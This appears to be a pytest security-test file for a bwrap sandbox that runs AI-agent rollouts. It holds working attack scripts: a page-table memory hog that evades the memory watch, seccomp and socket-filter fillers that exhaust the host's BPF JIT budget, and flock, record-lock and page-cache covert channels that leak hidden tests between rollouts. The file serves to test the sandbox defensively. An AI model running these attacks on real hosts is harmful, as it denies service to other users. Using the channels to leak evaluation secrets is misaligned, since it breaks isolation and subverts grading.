"""Round 26 attacks on the sandbox (open: each xfail strict until fixed).

Each runs real bwrap as root (a leased uid, cgroups, the workspace as an overlay or a copy)
and/or as a normal user (nobody, through ``run_as``).
"""

from __future__ import annotations

import contextlib
import fcntl
import textwrap
from collections.abc import Iterator
from pathlib import Path

from tests.security.test_attacks_round25_sandbox import _judged_as_the_rollouts


@contextlib.contextmanager
def _alone(what: str) -> Iterator[None]:
    """No other test of ``what`` (of this machine's runs, any xdist worker) meanwhile: r26s-2/3
    take a machine-wide budget their controls measure, r26s-4/5 share one set of files."""
    with open(f"/tmp/repo-agent-r26-{what}.lock", "w") as f:
        fcntl.flock(f, fcntl.LOCK_EX)
        yield


# r26s-1: a new instance of r11-2's class past the part watch (agent/memory_part.py), after
# r24s-2 (pipes) and r25s-1 (untouched mappings). A normal user's sandbox (no memory cgroup of
# its own) in a 400 MB container: four processes each map 13,000 one-page anonymous mappings
# 1 GB apart and read each once. The read maps the shared zero page (no Pss at all) but makes
# the kernel allocate a page-table page and a page-middle-directory page for each mapping:
# 8 kB of page tables a mapping, ~104 MB a process (VmPTE), charged to the container's memory
# cgroup. The watch counts 128 bytes a mapping and no page table, so the four processes' 416 MB
# look like ~7 MB; the OOM killer strikes and the run is the machine's shortage (SandboxError,
# not judged) where the same excess held as bytes (the control, r11-2's own shape) is the
# rollout's (judged): a wrong fix's final run escapes its FAIL so.
_HOG = textwrap.dedent(
    """
    import ctypes, mmap, os, time
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    MAP_FIXED_NOREPLACE = 0x100000

    def page_tables(n):
        for i in range(n):  # 1 GB apart: a page-table page and a PMD page each
            at = 0x100000000000 + i * (1 << 30)
            flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_FIXED_NOREPLACE
            p = libc.mmap(at, 4096, mmap.PROT_READ, flags, -1, 0)
            ctypes.c_char.from_address(p).value  # the zero page: no Pss

    for _ in range(4):
        if os.fork() == 0:
            try:
                if AS_BYTES:
                    b = bytearray(100 * 2**20)
                    b[::4096] = b"x" * len(b[::4096])
                else:
                    page_tables(13000)
                time.sleep(30)
            finally:
                os._exit(0)
    time.sleep(3)
    os.kill(os.getpid(), 9)
    """
)


def test_r26s_1_control_bytes_held_past_the_part_are_the_rollouts(user_dir):
    _judged_as_the_rollouts(user_dir, _HOG.replace("AS_BYTES", "True"))


def test_r26s_1_page_tables_held_past_the_part_are_the_rollouts(user_dir):
    _judged_as_the_rollouts(user_dir, _HOG.replace("AS_BYTES", "False"))


# r26s-2: the machine's BPF JIT budget (``net.core.bpf_jit_limit``, 504 MB here; the kernel is
# CONFIG_BPF_JIT_ALWAYS_ON) is one count for every unprivileged program of the machine (and of
# every container on the host), and a sandbox may take all of it. ``seccomp`` is allowed in the
# sandbox (no_new_privs is set), and a filter loaded with SECCOMP_FILTER_FLAG_NEW_LISTENER lives
# as long as its listener descriptor, which passes over an AF_UNIX socket: ten holder processes
# of a root run's sandbox each fork children that load a 4,096-instruction filter (a division a
# line: ~80 kB of JIT code each) and send back its listener, ~580 each, until the kernel refuses
# (ENOTSUPP, 524), then smaller filters until a 3-instruction one is refused: 508 MB
# pinned in 12.5 s, the whole budget. Meanwhile no unprivileged process
# of the machine can load a seccomp filter or a socket filter: a normal user's bwrap (whose
# capabilities are its user namespace's) cannot start its sandbox (seen: "the sandbox could not
# start (bwrap: prctl(PR_SET_SECCOMP): Unknown error 524)", 5,877 filters held), so a normal user's
# neighbouring rollouts are not judged, and other programs and containers of the host lose their
# seccomp sandboxes alike, for as long as the run lasts. Nothing counts or bounds it per sandbox.
# The main of r26s-2/3's fillers: HOLDERS processes each run ``hold`` (its filters, until the
# kernel refuses; it writes how many it holds), then the run lasts 2 s more.
_HOLDERS = textwrap.dedent(
    """
    r, w = os.pipe()
    for _ in range(HOLDERS):
        if os.fork() == 0:
            hold(w)
            os._exit(0)
    said = b""
    while said.count(b"\\n") < HOLDERS:
        said += os.read(r, 64)
    print("filters held:", sum(map(int, said.split())))
    time.sleep(2)  # what a test run lasts: the budget stays taken meanwhile
    """
)
_JIT_FILLER = (
    textwrap.dedent(
        """
    import ctypes, os, socket, struct, time
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long

    class Prog(ctypes.Structure):
        _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.c_char_p)]

    def program(insns):
        prog = struct.pack("<HBBI", 0x20, 0, 0, 4) + struct.pack("<HBBI", 0x07, 0, 0, 0)  # A = arch; X = A
        prog += struct.pack("<HBBI", 0x3C, 0, 0, 0) * (insns - 3)  # A /= X: a zero check and a division each
        prog += struct.pack("<HBBI", 0x06, 0, 0, 0x7FFF0000)  # ret ALLOW
        return Prog(insns, prog)

    def hold(out):
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        held, insns = [], 4096
        fp = program(insns)
        while len(held) < 1000:
            if os.fork() == 0:
                fd = libc.syscall(317, 1, 8, ctypes.byref(fp))  # SECCOMP_SET_MODE_FILTER, NEW_LISTENER
                if fd < 0:
                    b.send(b"%d" % ctypes.get_errno())
                else:
                    socket.send_fds(b, [b"ok"], [fd])
                os._exit(0)
            msg, fds, _, _ = socket.recv_fds(a, 64, 1)
            os.wait()
            if not fds and insns == 3:
                break
            if not fds:  # refused: the budget's last bytes taken by smaller filters
                insns = max(3, insns // 8)
                fp = program(insns)
            held += fds
        os.write(out, b"%d\\n" % len(held))
        time.sleep(60)
    """
    )
    + _HOLDERS
)
# A normal user's program loading a one-instruction seccomp filter (what bwrap does for a normal
# user's sandbox): prints the call's result and errno.
_USER_SECCOMP = (
    "import ctypes, struct\n"
    "libc = ctypes.CDLL(None, use_errno=True)\n"
    "libc.syscall.restype = ctypes.c_long\n"
    "libc.prctl(38, 1, 0, 0, 0)\n"
    "class Prog(ctypes.Structure):\n"
    "    _fields_ = [('len', ctypes.c_ushort), ('filter', ctypes.c_char_p)]\n"
    "allow = struct.pack('<HBBI', 0x06, 0, 0, 0x7FFF0000)\n"
    "print(libc.syscall(317, 1, 0, ctypes.byref(Prog(1, allow))), ctypes.get_errno())\n"
)


def _user_seccomp_refusals_while(tmp_path, holders: int, filler: str = _JIT_FILLER) -> tuple[list[str], int | None]:
    """A root sandbox running ``filler`` with ``holders`` holders while a normal user's
    program loads a seccomp filter every 0.1 s: the refusals it met, and the run's exit code."""
    import subprocess
    import threading
    from pathlib import Path

    from agent.sandbox import run_command_full

    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "filler.py").write_text(filler.replace("HOLDERS", str(holders)))
    done: list = []

    def run():
        import sys

        done.append(run_command_full([sys.executable, "filler.py"], Path(ws), timeout_s=60, sandbox="bwrap"))

    with _alone("bpf-jit"):
        t = threading.Thread(target=run)
        t.start()
        refused = []
        while t.is_alive() and not refused:
            cp = subprocess.run(["/usr/bin/python3", "-c", _USER_SECCOMP], user=65534, capture_output=True, text=True)
            if not cp.stdout.startswith("0 "):
                refused.append(cp.stdout.strip() or cp.stderr.strip()[-200:])
            t.join(0.1)
        t.join()
    return refused, done[0].exit_code if done else None


def test_r26s_2_control_a_sandbox_loading_few_filters_leaves_the_users_theirs(tmp_path):
    refused, code = _user_seccomp_refusals_while(tmp_path, 0)
    assert code == 0
    assert not refused, f"a normal user's seccomp filter refused: {refused}"


def test_r26s_2_a_sandbox_never_takes_the_machines_bpf_jit_budget(tmp_path):
    refused, code = _user_seccomp_refusals_while(tmp_path, 10)
    assert code == 0  # the filler ran to its end: the refusals below are its doing
    assert not refused, f"a normal user's seccomp filter refused while a sandbox ran: {refused}"


# r26s-3: r26s-2's budget taken through socket filters instead of seccomp: a classic BPF program
# attached to an AF_UNIX socket (SO_ATTACH_FILTER, allowed in the sandbox) is JITed and charged to
# the same machine-wide ``bpf_jit_limit``, and lives as long as the socket. Sixteen processes of
# a root run's sandbox each open up to 1,000 sockets with a 2,048-instruction filter (the largest
# the socket's ``optmem_max`` takes: ~42 MB of JIT code a process, in about a second), then smaller
# ones until a 3-instruction filter is refused: a normal user's seccomp filter is refused with
# ENOTSUPP (524) while the run lasts (12.8 s). No fork, no seccomp call: a fix of r26s-2's
# listeners alone leaves this.
_SOCKET_FILTER_FILLER = (
    textwrap.dedent(
        """
    import ctypes, os, socket, struct, time

    def program(insns):
        prog = struct.pack("<HBBI", 0x80, 0, 0, 0) + struct.pack("<HBBI", 0x07, 0, 0, 0)  # A = len; X = A
        prog += struct.pack("<HBBI", 0x3C, 0, 0, 0) * (insns - 3)  # A /= X: a zero check and a division each
        prog += struct.pack("<HBBI", 0x06, 0, 0, 0xFFFF)  # ret: accept
        buf = ctypes.create_string_buffer(prog, len(prog))
        return struct.pack("HL", insns, ctypes.addressof(buf)), buf

    def hold(out):
        held, insns = [], 4096
        fprog, buf = program(insns)
        while len(held) < 1000:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
            try:
                s.setsockopt(socket.SOL_SOCKET, 26, fprog)  # SO_ATTACH_FILTER
            except OSError:  # past the socket's optmem, or the budget: smaller filters
                s.close()
                if insns == 3:
                    break
                insns = max(3, insns // 2)
                fprog, buf = program(insns)
                continue
            held.append(s)
        os.write(out, b"%d\\n" % len(held))
        time.sleep(60)
    """
    )
    + _HOLDERS
)


def test_r26s_3_control_a_sandbox_with_few_socket_filters_leaves_the_users_theirs(tmp_path):
    refused, code = _user_seccomp_refusals_while(tmp_path, 1, _SOCKET_FILTER_FILLER)
    assert code == 0
    assert not refused, f"a normal user's seccomp filter refused: {refused}"


def test_r26s_3_socket_filters_never_take_the_machines_bpf_jit_budget(tmp_path):
    refused, code = _user_seccomp_refusals_while(tmp_path, 16, _SOCKET_FILTER_FILLER)
    assert code == 0  # the filler ran to its end: the refusals below are its doing
    assert not refused, f"a normal user's seccomp filter refused while a sandbox ran: {refused}"


# r26s-4: two sandboxes running at once share every read-only file they both see (the
# interpreter's prefix, the venv, /usr), and a flock on one (LOCK_EX is allowed on a read-only
# descriptor) is seen by the other: a channel between two rollouts. One rollout's final run (its
# workspace then holds the revealed hidden tests; its differential's process the held-out inputs)
# takes an exclusive lock on one of 256 of the prefix's files for each 1 bit of what it read,
# then on a 257th as a "ready" mark; a neighbour rollout's tests, run at the same time as root
# in a sandbox of their own (its run_tests while its model still works), test each file with
# LOCK_SH|LOCK_NB and read the bytes back: a secret of the final run reaches another rollout's
# code under test (and through its output, that rollout's model). Rollouts of one task in one
# batch meet the same hidden tests and the same held-out sample, so what one learns the others
# can use. Here: 32 bytes in well under a second, as root.
_LOCK_FILES = """
import fcntl, os, sys, time
prefix = os.path.dirname(os.__file__)
names = sorted(os.path.join(d, n) for d, _, ns in os.walk(prefix) for n in ns if n.endswith(".py"))[:257]
assert len(names) == 257, len(names)
"""
# The end of every receiver: waits for the sender's ready mark (``ready``) or for the host to say
# the sender's run is over or never was (a file in ``sys.argv[1]``, bound read-only: 30 s at
# most), reads the 256 bits (``probe`` of each file) and prints them as bytes, in hex.
_RECEIVED = textwrap.dedent(
    """
    deadline = time.monotonic() + 30
    while not ready() and not os.path.exists(os.path.join(sys.argv[1], "sender-over")) and time.monotonic() < deadline:
        time.sleep(0.01)
    bits = [probe(n) for n in names[:256]]
    got = bytes(sum(bits[8 * k + i] << i for i in range(8)) for k in range(32))
    print("READ", got.hex())
    """
)
_LOCK_SENDER = _LOCK_FILES + textwrap.dedent(
    """
    secret = open("secret.txt", "rb").read()[:32]
    bits = [(byte >> i) & 1 for byte in secret for i in range(8)]
    held = []
    for name, bit in zip(names, bits):
        if bit:
            fd = os.open(name, os.O_RDONLY)
            fcntl.flock(fd, fcntl.LOCK_EX)
            held.append(fd)
    ready = os.open(names[256], os.O_RDONLY)
    fcntl.flock(ready, fcntl.LOCK_EX)
    time.sleep(4)
    """
)
_LOCK_RECEIVER = (
    _LOCK_FILES
    + textwrap.dedent(
        """
    def locked(name):
        fd = os.open(name, os.O_RDONLY)
        try:
            fcntl.flock(fd, fcntl.LOCK_SH | fcntl.LOCK_NB)
            return 0
        except BlockingIOError:
            return 1
        finally:
            os.close(fd)

    ready, probe = (lambda: locked(names[256])), locked
    """
    )
    + _RECEIVED
)


def _secret_read(
    tmp_path, sender: bool, scripts: tuple[str, str] = (_LOCK_SENDER, _LOCK_RECEIVER), tries: int = 3
) -> bool:
    """Whether the receiver (``_read_by_a_neighbour``), which must have run to its end, printed the
    secret: in any of ``tries`` with a sender (a busy machine can start the receiver seconds
    late, past the channel's timing: a strict xfail that passed then would fail the run), once
    without (the control). A try in which the receiver waited for the final run's end before it
    started (the final run's lease, agent/final_run_lease.py) is the last: there was no run at
    once to spoil, and another would be the same."""
    for attempt in range(tries if sender else 1):
        secret, said, apart = _read_by_a_neighbour(tmp_path / f"try{attempt}", sender, scripts)
        assert "READ" in said, said[-300:]  # the receiver ran to its end
        if secret in said:
            return True
        if apart:
            break
    return False


# The sender's code as a rollout's fix_gcd leaves it: the fix, and the channel's sender run by the
# tests' process of its final run (the differential's calls import gcd too, under a short clock).
_FINAL_RUN_SENDER = textwrap.dedent(
    """
    import os, subprocess, sys
    _here = os.path.dirname(os.path.abspath(__file__))
    if "pytest" in sys.modules and not os.environ.get("SENT_BY_GCD"):
        os.environ["SENT_BY_GCD"] = "1"
        subprocess.run([sys.executable, "run.py"], cwd=_here, timeout=60)


    def gcd(a, b):
        while b:
            a, b = b, a % b
        return a
    """
)


def _final_run_sending(root: Path, script: str, secret: str) -> None:
    """A rollout's real final run (mini-bugs' fix_gcd, under ``root``) whose tests' process runs
    ``script`` (``run.py``) over ``secret`` (``secret.txt``) in its workspace: what the revealed
    hidden tests or the held-out inputs are to a final run's code."""
    from agent.final_verdict import final_test_run
    from agent.suites.loading import load_suite
    from agent.workspace import Workspace

    suite = load_suite("mini-bugs")
    with Workspace.create(suite, suite.task("fix_gcd"), root) as ws:
        for rel, text in {"gcd.py": _FINAL_RUN_SENDER, "run.py": script, "secret.txt": secret}.items():
            ws.resolve(rel).write_text(text)
        final_test_run(ws)


def _read_by_a_neighbour(
    tmp_path, sender: bool, scripts: tuple[str, str] = (_LOCK_SENDER, _LOCK_RECEIVER)
) -> tuple[str, str, bool]:
    """A secret (as the receiver prints bytes: hex), what a root sandbox running ``scripts[1]``
    (``_LOCK_RECEIVER``) printed, with a rollout's real final run (mini-bugs' fix_gcd,
    agent/final_verdict.py) started first (``sender``) whose tests run ``scripts[0]``
    (``_LOCK_SENDER``) over that secret in its workspace, and whether the receiver was seen
    waiting for the final run's lease (so started after the final run was over)."""
    import secrets
    import sys
    import threading
    import time

    from agent.sandbox import run_command_full
    from tests.security.conftest import until_the_lease_held, waits_for_the_lease

    secret = secrets.token_hex(16)
    receiver = tmp_path / "receiver"
    receiver.mkdir(parents=True)
    (receiver / "run.py").write_text(scripts[1])
    said = tmp_path / "host-says"  # the host's word to the receiver: the sender's run is over
    said.mkdir(mode=0o755)
    said.chmod(0o755)
    runs: dict = {}

    def receive():
        argv = [sys.executable, "run.py", str(said)]
        runs["receiver"] = run_command_full(argv, receiver, timeout_s=60, sandbox="bwrap", ro_binds=(said,))

    def send():
        try:
            _final_run_sending(tmp_path / "sender", scripts[0], secret)
        except Exception:  # (the verdict is not what this asks: the channel is)
            pass

    receiving, sending = threading.Thread(target=receive), threading.Thread(target=send)
    apart = False
    with _alone("lock-channel"):
        if sender:
            # The final run first, the receiver once it holds the machine: a receiver started
            # first would hold the final run back at the lease for its whole wait (its own clock).
            sending.start()
            until_the_lease_held("final-run.lease", fcntl.LOCK_SH, sending.is_alive)
        receiving.start()
        while sending.is_alive() and receiving.is_alive() and not apart:
            apart = waits_for_the_lease()  # (only the receiver waits for this process's final run)
            time.sleep(0.01)
        if sender:
            sending.join()
        (said / "sender-over").touch()
        receiving.join()
    return secret.encode().hex(), runs["receiver"].output, apart


def test_r26s_4_control_a_sandbox_alone_reads_no_neighbours_secret(tmp_path):
    assert not _secret_read(tmp_path, False)


def test_r26s_4_a_sandbox_never_reads_a_neighbours_secret(tmp_path):
    assert not _secret_read(tmp_path, True), "a neighbouring sandbox read the final run's secret whole"


# r26s-5: r26s-4's channel through POSIX record locks instead of flock: a read lock (F_RDLCK,
# allowed on a read-only descriptor) on a shared file of the prefix is seen by the neighbour's
# F_GETLK asking for a write lock (no write access needed to ask). A fix refusing flock(2)
# alone leaves this; seccomp cannot read fcntl's struct flock (r22s-2).
_RECORD_LOCK_SENDER = _LOCK_SENDER.replace("fcntl.flock(fd, fcntl.LOCK_EX)", "fcntl.lockf(fd, fcntl.LOCK_SH)").replace(
    "fcntl.flock(ready, fcntl.LOCK_EX)", "fcntl.lockf(ready, fcntl.LOCK_SH)"
)
_RECORD_LOCK_RECEIVER = (
    _LOCK_FILES
    + textwrap.dedent(
        """
    import struct

    def locked(name):
        fd = os.open(name, os.O_RDONLY)
        try:
            asked = struct.pack("hhqqi", fcntl.F_WRLCK, 0, 0, 0, 0)
            got = fcntl.fcntl(fd, fcntl.F_GETLK, asked)
            return int(struct.unpack("hhqqi", got)[0] != fcntl.F_UNLCK)
        finally:
            os.close(fd)

    ready, probe = (lambda: locked(names[256])), locked
    """
    )
    + _RECEIVED
)


def test_r26s_5_control_a_sandbox_alone_reads_no_neighbours_secret_by_record_locks(tmp_path):
    assert not _secret_read(tmp_path, False, (_RECORD_LOCK_SENDER, _RECORD_LOCK_RECEIVER))


def test_r26s_5_a_sandbox_never_reads_a_neighbours_secret_by_record_locks(tmp_path):
    assert not _secret_read(tmp_path, True, (_RECORD_LOCK_SENDER, _RECORD_LOCK_RECEIVER)), (
        "a neighbouring sandbox read the final run's secret whole"
    )


# r26s-6: r26s-4's channel without any lock: the page cache of a file both sandboxes see is one.
# The sender drops each of 256 files of the shared prefix from the page cache
# (POSIX_FADV_DONTNEED, allowed on a read-only descriptor) and reads the first page back of those
# whose bit is 1; the neighbour, 2 s later, asks each file's first page with
# preadv2(RWF_NOWAIT), which fails with EAGAIN where the page is not cached. A fix that gives each
# sandbox its own inodes for the shared files (an overlay, a copy) but the same pages beneath, or
# that refuses locks, leaves this.
_CACHE_SENDER = _LOCK_FILES + textwrap.dedent(
    """
    secret = open("secret.txt", "rb").read()[:32]
    bits = [(byte >> i) & 1 for byte in secret for i in range(8)]
    for name, bit in zip(names, bits):
        fd = os.open(name, os.O_RDONLY)
        os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
        if bit:
            os.pread(fd, 1, 0)
        os.close(fd)
    time.sleep(4)
    """
)
# Whether a file's first page is in the page cache: ``preadv2(RWF_NOWAIT)`` fails with EAGAIN
# where it is not (no read from the disk). Also r28s-4's reader's.
_CACHED = textwrap.dedent(
    """
    def cached(name):
        fd = os.open(name, os.O_RDONLY)
        try:
            os.preadv(fd, [bytearray(1)], 0, os.RWF_NOWAIT)
            return 1
        except BlockingIOError:
            return 0
        finally:
            os.close(fd)
    """
)
_CACHE_RECEIVER = (
    _LOCK_FILES
    + "time.sleep(2)  # the sender's work done\n"
    + _CACHED
    + "ready, probe = (lambda: True), cached\n"
    + _RECEIVED
)


def test_r26s_6_control_a_sandbox_alone_reads_no_neighbours_secret_by_the_page_cache(tmp_path):
    assert not _secret_read(tmp_path, False, (_CACHE_SENDER, _CACHE_RECEIVER))


def test_r26s_6_a_sandbox_never_reads_a_neighbours_secret_by_the_page_cache(tmp_path):
    assert not _secret_read(tmp_path, True, (_CACHE_SENDER, _CACHE_RECEIVER)), (
        "a neighbouring sandbox read the final run's secret whole"
    )
